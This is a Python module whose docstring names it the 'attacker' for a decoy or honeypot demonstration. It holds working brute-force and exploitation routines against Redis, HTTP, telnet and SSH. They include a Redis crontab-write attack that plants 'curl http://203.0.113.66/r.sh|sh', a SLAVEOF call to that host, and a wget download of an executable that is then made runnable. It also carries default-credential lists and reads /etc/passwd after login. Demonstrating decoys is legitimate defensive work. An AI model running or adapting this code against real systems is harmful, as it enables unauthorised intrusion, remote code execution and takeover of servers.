"""This module is the demonstration's attacker: scripted visits to decoys, written for people to watch, not to hide."""

import base64
import random
import socket
from collections.abc import Callable, Mapping
from contextlib import suppress
from typing import TypeAlias

TIMEOUT = 5.0  # seconds for each step
MAX_ANSWER = 64 * 1024  # bytes read of one answer

USERS = ("root", "admin", "oracle", "pi", "ubuntu", "postgres", "support", "git")
PASSWORDS = ("123456", "admin", "password", "raspberry", "root", "qwerty", "letmein", "P@ssw0rd", "changeme")
COMMANDS = (
    "uname -a",
    "id",
    "cat /etc/passwd",
    "w",
    "ps aux",
    "wget http://203.0.113.66/x86 -O /tmp/.x; chmod +x /tmp/.x",
)
PATHS = ("/", "/login", "/admin", "/.env", "/wp-login.php", "/.git/config", "/cgi-bin/luci")

Place: TypeAlias = tuple[str, int]
Attack: TypeAlias = Callable[[Place, random.Random], str]


def redis(place: Place, chance: random.Random) -> str:
    """Guess a password, then try the well-known way to write a crontab."""
    password = chance.choice(PASSWORDS)
    with socket.create_connection(place, TIMEOUT) as peer:
        for words in (
            ("AUTH", password),
            ("INFO", "server"),
            ("CONFIG", "SET", "dir", "/var/spool/cron"),
            ("SET", "x", "\n* * * * * curl http://203.0.113.66/r.sh|sh\n"),
            ("SLAVEOF", "203.0.113.66", "6379"),
            ("QUIT",),
        ):
            line = b"".join(b"$%d\r\n%s\r\n" % (len(word), word.encode()) for word in words)
            peer.sendall(b"*%d\r\n%s" % (len(words), line))
            _read(peer)
    return f"AUTH {password}, CONFIG SET dir, SLAVEOF"


def http(place: Place, chance: random.Random) -> str:
    """Look for known holes, then try a form and Basic authentication."""
    user, password = chance.choice(USERS), chance.choice(PASSWORDS)
    paths = chance.sample(PATHS, 3)
    basic = base64.b64encode(f"{user}:{password}".encode()).decode()
    form = f"username={user}&password={password}"
    requests = [f"GET {path} HTTP/1.1\r\n" for path in paths]
    requests.append(f"GET /admin HTTP/1.1\r\nAuthorization: Basic {basic}\r\n")
    requests.append(
        f"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n"
    )
    for number, head in enumerate(requests, 1):
        with socket.create_connection(place, TIMEOUT) as peer:
            body = form if number == len(requests) else ""
            peer.sendall(
                f"{head}Host: {place[0]}\r\nUser-Agent: masscan/1.3\r\nConnection: close\r\n\r\n{body}".encode()
            )
            _read(peer)
    return f"{' '.join(paths)}, {user}:{password}"


def telnet(place: Place, chance: random.Random) -> str:
    """Log in the way worms do: as fast as prompts come, refusing every option."""
    user, password = chance.choice(USERS), chance.choice(PASSWORDS)
    with socket.create_connection(place, TIMEOUT) as peer:
        for words in (user, password, "enable", "sh", chance.choice(COMMANDS), "exit"):
            _refuse_options(peer, _read(peer))
            peer.sendall(words.encode() + b"\r\n")
        _read(peer)
    return f"{user}:{password}"


def ssh(place: Place, chance: random.Random) -> str:
    """Guess a few passwords; run a command if one opens the door."""
    import asyncio

    user = chance.choice(USERS)
    guesses = chance.sample(PASSWORDS, 3)
    ran = ""
    for password in guesses:
        ran = asyncio.run(_ssh_once(place, user, password, chance.choice(COMMANDS)))
        if ran:
            break
    return f"{user} with {', '.join(guesses)}" + (f", then {ran}" if ran else "")


ATTACKS: Mapping[str, Attack] = {"redis": redis, "http": http, "telnet": telnet, "ssh": ssh}


async def _ssh_once(place: Place, user: str, password: str, command: str) -> str:
    """Return the command that was run, or nothing when the door stayed shut."""
    import asyncio

    import asyncssh

    ran = ""
    async with asyncio.timeout(4 * TIMEOUT):
        with suppress(asyncssh.Error):  # refused, or hung up on
            async with asyncssh.connect(
                *place,
                username=user,
                password=password,
                known_hosts=None,
                config=None,
                client_keys=None,
                agent_path=None,
            ) as connection:
                await connection.run(command, check=False)
                ran = command
    return ran


def _read(peer: socket.socket) -> bytes:
    """Return one answer; nothing within the time is an answer, too."""
    with suppress(TimeoutError):
        return peer.recv(MAX_ANSWER)
    return b""


def _refuse_options(peer: socket.socket, data: bytes) -> None:
    """Answer DO with WONT and WILL with DONT (RFC 854)."""
    refusals = {0xFD: 0xFC, 0xFB: 0xFE}
    answer = b"".join(
        bytes((0xFF, refusals[data[at + 1]], data[at + 2]))
        for at in range(len(data) - 2)
        if data[at] == 0xFF and data[at + 1] in refusals  # noqa: PLR2004  IAC
    )
    if answer:
        peer.sendall(answer)
